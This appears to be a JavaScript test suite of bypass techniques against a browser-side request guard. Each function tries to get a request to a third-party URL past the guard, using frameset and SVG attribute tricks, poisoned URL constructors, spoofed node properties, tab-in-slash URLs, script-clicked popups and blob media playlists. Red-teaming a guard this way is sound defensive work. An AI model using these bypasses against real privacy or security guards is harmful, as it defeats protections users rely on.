/*
 * The guard's fourth technique set: a second attacker's review, after the third set's fixes,
 * each verified to reach the third party without the guard. Parsing contexts a template does not
 * reproduce (framesets, the html element, srcdoc documents), attributes of table columns and SVG
 * presentation attributes that name another file, processing instructions with character
 * references, nodes whose localName, nodeType, baseURI or attributes a page redefines, windows
 * whose parent, frames, navigation or user activation a page redefines, a replaced URL
 * constructor, tabs between slashes, option lists, links clicked by a script into a popup, and
 * media playlists in blobs. Rewriting the page's built-ins (Array, RegExp, Set, JSON, Function
 * prototypes) before a pixel is the CSP's part; the README says so. Same contract as the other sets.
 */
(function () {
  'use strict';
  // The helpers techniques.js and techniques-3.js share.
  var h = window.guardHelpers;
  var SVG = h.SVG;
  var make = h.make;
  var append = h.append;
  var parsed = h.parsed;
  var rand = h.rand;
  var noop = h.noop;
  var report = h.report;
  var svgEl = h.svgEl;
  var sink = h.sinkFrame;
  var blobUrl = h.blobUrl;
  var fetchCode = h.fetchCode;
  var ws = h.ws;
  var poll = h.poll;
  var frameDoc = h.frameDoc;
  /** A small visible same-origin iframe (its document is rendered). */
  function visible(w) { var f = make(w, 'iframe'); f.name = 'vis' + rand(); f.style.cssText = 'width:60px;height:60px'; append(w, f); return f; }
  function hostOf(u) { return new URL(u).host; }
  function rules(list) { return JSON.stringify({ prefetch: [{ source: 'list', urls: list }] }); }

  /** The third party's URL written with a tab between its slashes and no scheme ('/\t/host/path'). */
  function slashTab(u) { var x = new URL(u); return '/\t/' + x.host + x.pathname; }
  function svgBox(w) { var svg = svgEl(w, 'svg'); svg.setAttribute('width', '20'); svg.setAttribute('height', '20'); return append(w, svg); }
  function rect(w) { var r = svgEl(w, 'rect'); r.setAttribute('width', '20'); r.setAttribute('height', '20'); return r; }
  /** Two local peers, offer/answer exchanged, none of the answerer's own candidates given: `then(pc1, answer)`. */
  function peers(w, editAnswer, then) {
    var pc1 = new w.RTCPeerConnection();
    var pc2 = new w.RTCPeerConnection();
    window.__keep = [pc1, pc2];
    pc1.createDataChannel('x');
    pc1.createOffer().then(function (o) { return pc1.setLocalDescription(o); })
      .then(function () { return pc2.setRemoteDescription(pc1.localDescription); })
      .then(function () { return pc2.createAnswer(); })
      .then(function (a) { return pc2.setLocalDescription(a).then(function () { return pc1.setRemoteDescription({ type: 'answer', sdp: editAnswer(a.sdp) }); }); })
      .then(function () { then(pc1); })
      .catch(report);
  }
  function candidates(u) {
    var port = new URL(u).port;
    return ['candidate:1 1 udp 2122260223 127.0.0.1 ' + port + ' typ host', 'candidate:2 1 tcp 1518280447 127.0.0.1 ' + port + ' typ host tcptype passive'];
  }

  /** A fresh frame's window, for techniques that rewrite a realm's globals (the others run on in `w`). */
  function isolated(w) { var f = make(w, 'iframe'); f.hidden = true; append(w, f); return f.contentWindow; }
  Object.assign(window.guardTechniques, {
    // Sanity check of the harness (repeats an existing technique; must be stopped): not counted.
    // --- A. HTML strings: the guard parses them in an inert <template>, where <frameset>, <frame>
    //        and a second <body> are dropped; the real context keeps them.
    'ctx-frameset-innerHTML-frame': function (w, u) { append(w, make(w, 'frameset')).innerHTML = '<frame src="' + u + '">'; },
    'ctx-frameset-insertAdjacentHTML-frame': function (w, u) { append(w, make(w, 'frameset')).insertAdjacentHTML('beforeend', '<frame src="' + u + '">'); },
    'ctx-frame-outerHTML-in-frameset': function (w, u) { var fs = append(w, make(w, 'frameset')); fs.appendChild(make(w, 'frame')).outerHTML = '<frame src="' + u + '">'; },
    'ctx-frameset-setHTMLUnsafe-frame': function (w, u) { append(w, make(w, 'frameset')).setHTMLUnsafe('<frame src="' + u + '">'); },
    'ctx-document-write-frameset-in-frame': function (w, u) { var d = sink(w).contentDocument; d.open(); d.write('<frameset><frame src="' + u + '"></frameset>'); d.close(); },
    'ctx-srcdoc-frameset': function (w, u) { var f = make(w, 'iframe'); f.srcdoc = '<frameset><frame src="' + u + '"></frameset>'; append(w, f); },
    'ctx-html-innerHTML-body-background': function (w, u) { var f = visible(w); var d = f.contentDocument; d.documentElement.innerHTML = '<head></head><body background="' + u + '">x</body>'; f.contentWindow.getComputedStyle(d.body).backgroundImage; },
    'ctx-document-write-body-background': function (w, u) { var f = visible(w); var d = f.contentDocument; d.open(); d.write('<body background="' + u + '">x'); f.contentWindow.getComputedStyle(d.body).backgroundImage; d.close(); },

    // --- B. Attributes missing from the guard's table (dom.ts TABLE)
    'attr-colgroup-background': function (w, u) { var t = append(w, make(w, 'table')); var cg = t.appendChild(make(w, 'colgroup')); cg.setAttribute('background', u); t.insertRow().insertCell().textContent = 'x'; w.getComputedStyle(cg).backgroundImage; },
    'attr-col-background': function (w, u) { var t = append(w, make(w, 'table')); var col = t.appendChild(make(w, 'colgroup')).appendChild(make(w, 'col')); col.setAttribute('background', u); t.insertRow().insertCell().textContent = 'x'; w.getComputedStyle(col).backgroundImage; },
    'svg-presentation-cursor': function (w, u) { var r = rect(w); r.setAttribute('cursor', 'url(' + u + '), auto'); svgBox(w).appendChild(r); w.getComputedStyle(r).cursor; },
    'svg-presentation-mask-external': function (w, u) { var r = rect(w); r.setAttribute('mask', 'url(' + u + '#m)'); svgBox(w).appendChild(r); },
    'svg-presentation-fill-external': function (w, u) { var r = rect(w); r.setAttribute('fill', 'url(' + u + '#g) red'); svgBox(w).appendChild(r); },
    'svg-presentation-clip-path-external': function (w, u) { var r = rect(w); r.setAttribute('clip-path', 'url(' + u + '#c)'); svgBox(w).appendChild(r); },
    'svg-presentation-marker-external': function (w, u) { var p = svgEl(w, 'path'); p.setAttribute('d', 'M1 1L9 9'); p.setAttribute('stroke', 'black'); p.setAttribute('marker-start', 'url(' + u + '#k)'); svgBox(w).appendChild(p); },

    // --- C. <?xml-stylesheet?>: the guard's regex reads href="..." literally
    'pi-href-char-reference-svg-frame': function (w, u) { frameDoc(w, '/doc.svg', function (f) { var d = f.contentDocument; d.insertBefore(d.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + u.replace(':', '&#58;') + '"'), d.documentElement); }); },
    'pi-href-apostrophe-svg-frame': function (w, u) { frameDoc(w, '/doc.svg', function (f) { var d = f.contentDocument; d.insertBefore(d.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + u + "'x" + '"'), d.documentElement); }); },
    'pi-href-apostrophe-html-document': function (w, u) { var d = w.document; d.insertBefore(d.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + u + "'x" + '"'), d.documentElement); },

    // --- D. The guard calls the page's own intrinsics at run time (policy.ts judge, dom.ts vet, workers.ts)
    'poison-URL-constructor-global': function (w0, u) { var w = isolated(w0); var host = hostOf(u); w.URL = new Proxy(w.URL, { construct: function (t, a, n) { if (String(a[0]).indexOf(host) >= 0) throw new TypeError('x'); return Reflect.construct(t, a, n); } }); w.navigator.sendBeacon(u, 'x'); },
    'poison-URL-protocol-getter': function (w0, u) { var w = isolated(w0); var d = Object.getOwnPropertyDescriptor(w.URL.prototype, 'protocol'); var host = hostOf(u); Object.defineProperty(w.URL.prototype, 'protocol', { configurable: true, get: function () { return this.host === host ? 'blob:' : d.get.call(this); } }); w.fetch(u, { mode: 'no-cors' }).catch(noop); },
    // Live reads of window state the page may replace ([Replaceable] attributes, own accessors)
    'poison-userActivation-popup': function (w0, u) { var w = isolated(w0); Object.defineProperty(w.navigator, 'userActivation', { value: { isActive: true } }); w.open(u, 'p' + rand(), 'popup,width=50,height=50'); },
    'poison-frames-userActivation-open-into-frame': function (w0, u) { var w = isolated(w0); var f = sink(w); w.frames = { length: 0 }; Object.defineProperty(w.navigator, 'userActivation', { value: { isActive: true } }); w.open(u, f.name); },
    'poison-parent-meta-refresh-in-frame': function (w0, u) { var w = isolated(w0); var f = sink(w); var fw = f.contentWindow; fw.parent = fw; var d = f.contentDocument; var m = d.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u; d.head.appendChild(m); },
    'poison-top-navigation-frame-navigate': function (w0, u) { var w = isolated(w0); var nav = sink(w).contentWindow.navigation; Object.defineProperty(w, 'navigation', { configurable: true, get: function () { return nav; } }); var r = nav.navigate(u); r.committed.catch(noop); r.finished.catch(noop); },
    'spoof-baseURI-document-fetch': function (w0, u) { var w = isolated(w0); Object.defineProperty(w.document, 'baseURI', { value: 'x:/' }); w.fetch(u.replace(/^http:/, ''), { mode: 'no-cors' }).catch(noop); },
    'spoof-baseURI-Node-prototype-img': function (w0, u) { var w = isolated(w0); Object.defineProperty(w.Node.prototype, 'baseURI', { configurable: true, get: function () { return 'x:/'; } }); new w.Image().src = u.replace(/^http:/, ''); },

    // --- E. The guard reads element facts through getters the page can shadow on the instance (dom.ts)
    'spoof-localName-img-src': function (w, u) { var img = make(w, 'img'); Object.defineProperty(img, 'localName', { value: 'span' }); img.src = u; },
    'spoof-setPrototypeOf-namespaceURI-script': function (w, u) { var s = make(w, 'script'); Object.setPrototypeOf(s, Object.create(w.HTMLScriptElement.prototype, { namespaceURI: { get: function () { return 'urn:x'; } } })); s.setAttribute('src', u); append(w, s); },
    'spoof-attr-name-setAttributeNode': function (w, u) { var a = w.document.createAttribute('src'); a.value = u; Object.defineProperty(a, 'name', { value: 'alt' }); make(w, 'img').setAttributeNode(a); },
    'spoof-attr-ownerElement-value': function (w, u) { var img = make(w, 'img'); img.setAttribute('src', '/x-' + rand() + '.png'); var a = img.getAttributeNode('src'); Object.defineProperty(a, 'ownerElement', { value: null }); a.value = u; },
    'spoof-textContent-speculationrules': function (w, u) { var s = make(w, 'script'); s.type = 'speculationrules'; s.text = rules([u]); Object.defineProperty(s, 'textContent', { get: function () { return rules(['/ok']); } }); append(w, s); },
    'spoof-firstElementChild-parsed-iframe': function (w, u) { var div = parsed(w, '<div><iframe src="' + u + '"></iframe></div>').body.firstChild; Object.defineProperty(div, 'firstElementChild', { value: null }); append(w, div); },
    'spoof-nodeType-parsed-iframe': function (w, u) { var f = parsed(w, '<iframe src="' + u + '"></iframe>').body.firstChild; Object.defineProperty(f, 'nodeType', { value: 0 }); append(w, f); },

    // --- F. DOM insertion APIs the guard does not wrap (nodes from an inert document)
    'insert-options-add-parsed-iframe': function (w, u) { var s = append(w, make(w, 'select')); s.options.add(parsed(w, '<option>x<iframe src="' + u + '"></iframe></option>').querySelector('option')); },
    'insert-top-appendChild-inert-meta-into-frame': function (w, u) { var d = sink(w).contentDocument; var m = parsed(w, '<meta http-equiv="refresh" content="0;url=' + u + '">').querySelector('meta'); w.Node.prototype.appendChild.call(d.head, m); },

    // --- G. document.write cleans each call alone: a tag split over two calls is never seen whole
    'write-split-img-attr-in-frame': function (w, u) { var d = sink(w).contentDocument; d.open(); d.write('<img src="'); d.write(u + '">'); d.close(); },

    // --- H. cleanHtml skips strings without '//', '\\', ':' or '&'; '/<TAB>/host' is '//host'
    'html-tab-slashes-innerHTML-iframe': function (w, u) { append(w, make(w, 'div')).innerHTML = '<iframe src="' + slashTab(u) + '"></iframe>'; },
    'html-tab-slashes-srcdoc-img': function (w, u) { var f = make(w, 'iframe'); f.srcdoc = '<img src="' + slashTab(u) + '">'; append(w, f); },
    'html-tab-slashes-insertAdjacentHTML-img': function (w, u) { append(w, make(w, 'div')).insertAdjacentHTML('beforeend', '<img src="' + slashTab(u) + '">'); },

    // --- I. WebRTC: only ICE servers are judged; remote candidates are contacted directly
    // --- J. Links that open a popup without user activation (window.open is checked, links are not)
    // Late: the new tab it opens hides this page, and a hidden page makes no speculative prefetch.
    'popup-a-target-blank-click': function (w, u) { var a = append(w, make(w, 'a')); a.href = u; a.target = '_blank'; a.textContent = 'x'; w.setTimeout(function () { a.click(); }, 1800); },

    // --- K. Speculation rules the guard's JSON.parse rejects (and so lets through) but Blink may accept
    // --- L. Workers: the guard inside the worker calls the worker's own (page-replaceable) URL
    'worker-poison-URL-constructor': function (w, u) { new w.Worker(blobUrl(w, 'var R = URL; self.URL = function (a, b) { var r = new R(a, b); return { href: r.href, pathname: r.pathname, protocol: "x:", origin: "x" }; };\n' + fetchCode(u))); },

    // --- M. Request-making APIs outside the guard's list
    'media-hls-blob-playlist': function (w, u) { var v = append(w, make(w, 'video')); v.muted = true; v.src = w.URL.createObjectURL(new w.Blob(['#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n' + u + '.ts\n#EXT-X-ENDLIST\n'], { type: 'application/vnd.apple.mpegurl' })); v.play().catch(noop); },
    // --- N. Probes of paths that look covered (expected: stopped)
    'html-tab-slashes-srcdoc-iframe': function (w, u) { var f = make(w, 'iframe'); f.srcdoc = '<iframe src="' + slashTab(u) + '"></iframe>'; append(w, f); },
    'toctou-worker-options-type-getter': function (w, u) { var n = 0; new w.Worker(blobUrl(w, fetchCode(u)), { get type() { return n++ ? 'module' : 'classic'; } }); },
    'realm-popup-about-blank-closed': function (w, u) { var p = w.open('about:blank', 'p' + rand(), 'popup,width=50,height=50'); var F = p.fetch; var R = p.Request; p.close(); F.call(p, new R(u, { mode: 'no-cors' })).catch(noop); },
    'clone-whole-document-import-iframe': function (w, u) { var d = parsed(w, '<iframe src="' + u + '"></iframe>').cloneNode(true); append(w, w.document.importNode(d.body.firstChild, true)); },
    'insert-moveBefore-into-closed-shadow-img': function (w, u) { var img = parsed(w, '<img src="' + u + '">').body.firstChild; var box = append(w, make(w, 'div')); box.appendChild(img); var root = append(w, make(w, 'div')).attachShadow({ mode: 'closed' }); root.moveBefore(img, null); },
    // Found on the second review's last build
    'spoof-isConnected-ownerDocument-parsed-iframe': function (w, u) { var f = parsed(w, '<iframe src="' + u + '"></iframe>').body.firstChild; Object.defineProperty(f, 'isConnected', { value: true }); Object.defineProperty(f, 'ownerDocument', { value: w.document }); append(w, f); },
    'popup-a-in-open-shadow-click': function (w, u) { var root = append(w, make(w, 'div')).attachShadow({ mode: 'open' }); var a = make(w, 'a'); a.href = u; a.target = '_blank'; a.textContent = 'x'; root.appendChild(a); w.setTimeout(function () { a.click(); }, 1800); },
    'popup-a-in-closed-shadow-dispatch-noncomposed': function (w, u) { var root = append(w, make(w, 'div')).attachShadow({ mode: 'closed' }); var a = make(w, 'a'); a.href = u; a.target = '_blank'; a.textContent = 'x'; root.appendChild(a); w.setTimeout(function () { a.dispatchEvent(new w.MouseEvent('click', { bubbles: true, cancelable: true, composed: false })); }, 1800); },
    'ctx-mathml-annotation-xml-innerHTML-iframe': function (w, u) { var M = 'http://www.w3.org/1998/Math/MathML'; var m = append(w, w.document.createElementNS(M, 'math')); var ax = m.appendChild(w.document.createElementNS(M, 'annotation-xml')); ax.setAttribute('encoding', 'text/html'); ax.innerHTML = '<iframe src="' + u + '"></iframe>'; },
    'svg-presentation-fill-escaped-url-function': function (w, u) { var r = rect(w); r.setAttribute('fill', 'u\\72 l(' + u + '#g) red'); svgBox(w).appendChild(r); },
    'svg-presentation-fill-escaped-colon': function (w, u) { var r = rect(w); r.setAttribute('fill', 'url(' + u.replace(':', '\\3a ') + '#g) red'); svgBox(w).appendChild(r); },
    'svg-presentation-mask-image-set': function (w, u) { var r = rect(w); r.setAttribute('mask', 'image-set("' + u + '" 1x)'); svgBox(w).appendChild(r); },
    'svg-presentation-cursor-image-set': function (w, u) { var r = rect(w); r.setAttribute('cursor', 'image-set("' + u + '" 1x), auto'); svgBox(w).appendChild(r); w.getComputedStyle(r).cursor; },
    'media-hls-blob-audio-mpegurl-type': function (w, u) { var v = append(w, make(w, 'video')); v.muted = true; v.src = w.URL.createObjectURL(new w.Blob(['#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n' + u + '.ts\n#EXT-X-ENDLIST\n'], { type: 'audio/mpegurl' })); v.play().catch(noop); },
    'media-hls-worker-made-blob-playlist': function (w, u) {
      var list = '#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n' + u + '.ts\n#EXT-X-ENDLIST\n';
      var wk = new w.Worker(blobUrl(w, 'postMessage(URL.createObjectURL(new Blob([' + JSON.stringify(list) + '], { type: "application/vnd.apple.mpegurl" })));'));
      wk.onmessage = function (e) { var v = append(w, make(w, 'video')); v.muted = true; v.src = e.data; v.play().catch(noop); };
    },
  });
})();
